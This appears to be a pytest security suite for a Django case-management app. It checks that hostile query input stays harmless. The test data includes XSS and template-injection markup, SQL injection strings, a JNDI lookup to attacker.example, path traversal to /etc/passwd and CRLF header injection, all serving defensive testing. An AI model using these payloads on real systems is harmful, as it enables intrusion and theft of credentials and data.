"""Hostile text in every parameter of every page: it is found again only as harmless text, or not at all."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from palermo.access.models import Account, Role
from tests.cases.factory import make_case, make_mission
from tests.security.addresses import PARAMETERS, READERS

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("clean_extracts")]
SOURCE = Path(__file__).resolve().parents[2] / "src" / "palermo"
MARKUP = '"\'><script>canary(1)</script><img src=x onerror=canary(2)>{{7*191}}{%now "Y"%}'
SQL = [
    "' OR '1'='1",
    "1; DROP TABLE cases_case --",
    "' UNION SELECT email, password FROM access_account --",
    "%' OR 1=1 --",
    "\\'; SELECT pg_sleep(9) --",
]
ODD = ["\x00", "\ud83d".encode("utf-8", "surrogatepass").decode("latin-1"), "٣٠١١", "-1", "9" * 400, "a" * 20_000,
       "\u202egnp", "[]", "${jndi:ldap://attacker.example/x}", "../../etc/passwd",
       "\r\nSet-Cookie: canary=1"]  # fmt: skip
Visit = Callable[[str], Client]


@pytest.fixture
def visit(client: Client, account_of: Callable[..., Account]) -> Visit:
    """A browser of somebody who may open the page of this name; one case exists."""
    make_case(case_ref="VISIBLE-1")
    client.raise_request_exception = False

    def sign_in(name: str) -> Client:
        who = PARAMETERS[name][0]
        if who is not None:
            client.force_login(account_of(who))
        return client

    return sign_in


@pytest.fixture
def reader(visit: Visit) -> Client:
    return visit("case_list")


def test_no_parameter_is_forgotten() -> None:
    """A file that reads the address belongs into READERS, and what it reads into PARAMETERS."""
    found = {
        path.relative_to(SOURCE).as_posix()
        for path in SOURCE.rglob("*.py")
        if re.search(r"request\.GET\b|query: QueryDict", path.read_text(encoding="utf-8"))
    }
    assert found <= READERS, sorted(found - READERS)


def questions(name: str, texts: list[str]) -> Iterator[dict[str, str]]:
    """Each parameter alone with one of the texts in turn, and each text in all parameters at once."""
    parameters = PARAMETERS[name][1]
    for position, parameter in enumerate(parameters):
        yield {parameter: texts[position % len(texts)]}
    for text in texts:
        yield dict.fromkeys(parameters, text)


@pytest.mark.parametrize("name", PARAMETERS)
def test_markup_is_text(visit: Visit, name: str) -> None:
    reader = visit(name)
    for asked in questions(name, [MARKUP]):
        for headers in ({}, {"hx-request": "true"}):
            response = reader.get(reverse(name), asked, headers=headers)
            assert response.status_code in {200, 302, 400, 422}, asked
            page = response.content.decode()
            if not response["Content-Type"].startswith("application/json"):
                assert "<script>canary" not in page, asked
                assert "<img src=x" not in page, asked
            assert "1337" not in page, asked


@pytest.mark.parametrize("name", PARAMETERS)
def test_statements_stay_values(visit: Visit, name: str) -> None:
    """No statement that was run is changed by the text; it travels beside it, and finds nothing."""
    reader = visit(name)
    make_case(make_mission("MDA"), case_ref="VISIBLE-2")
    for asked in questions(name, SQL):
        with CaptureQueriesContext(connection) as captured:
            response = reader.get(reverse(name), asked)
        assert response.status_code in {200, 302, 400, 422}, asked
        page = response.content.decode()
        assert "argon2" not in page
        assert "pbkdf2" not in page
        for query in captured.captured_queries:
            statement = query["sql"].upper()
            for text in asked.values():
                statement = statement.replace(text.upper(), "").replace(text.upper().replace("'", "''"), "")
            assert "DROP TABLE" not in statement
            assert "UNION SELECT" not in statement
            assert "PG_SLEEP" not in statement


@pytest.mark.parametrize("name", PARAMETERS)
def test_odd_text_is_no_fault_of_ours(visit: Visit, name: str) -> None:
    reader = visit(name)
    for asked in questions(name, ODD):
        response = reader.get(reverse(name), asked)
        assert response.status_code in {200, 302, 400, 404, 422}, (str(asked)[:60], response.status_code)
        assert "canary" not in response.cookies
        assert not [value for value in response.headers.values() if "\n" in value or "\r" in value]


def test_a_reference_with_wildcards_finds_only_itself(reader: Client) -> None:
    for text in ("%", "_", "VISIBLE_", "vis%1", "*", "' OR '1'='1"):
        assert "VISIBLE-1" not in reader.get(reverse("case_list"), {"reference": text}).content.decode(), text
    assert "VISIBLE-1" in reader.get(reverse("case_list"), {"reference": "visible-"}).content.decode()


def test_stored_text_is_escaped_wherever_it_is_shown(
    client: Client, account_of: Callable[..., Account]
) -> None:
    mission = make_mission("UKR", name=MARKUP[:90])
    case = make_case(mission, case_ref=MARKUP[:60])
    account = account_of(Role.DATA_STEWARD)
    account.display_name = MARKUP[:90]
    account.save()
    client.force_login(account)
    for name, arguments in (
        ("home", {}), ("case_list", {}), ("case_page", {"opaque_id": case.opaque_id}), ("statistics", {}),
        ("statistics_table", {"name": "table08_sex"}),
    ):  # fmt: skip
        page = client.get(reverse(name, kwargs=arguments)).content.decode()
        assert "<script>canary" not in page, name
        assert "<img src=x" not in page, name
        assert "1337" not in page, name
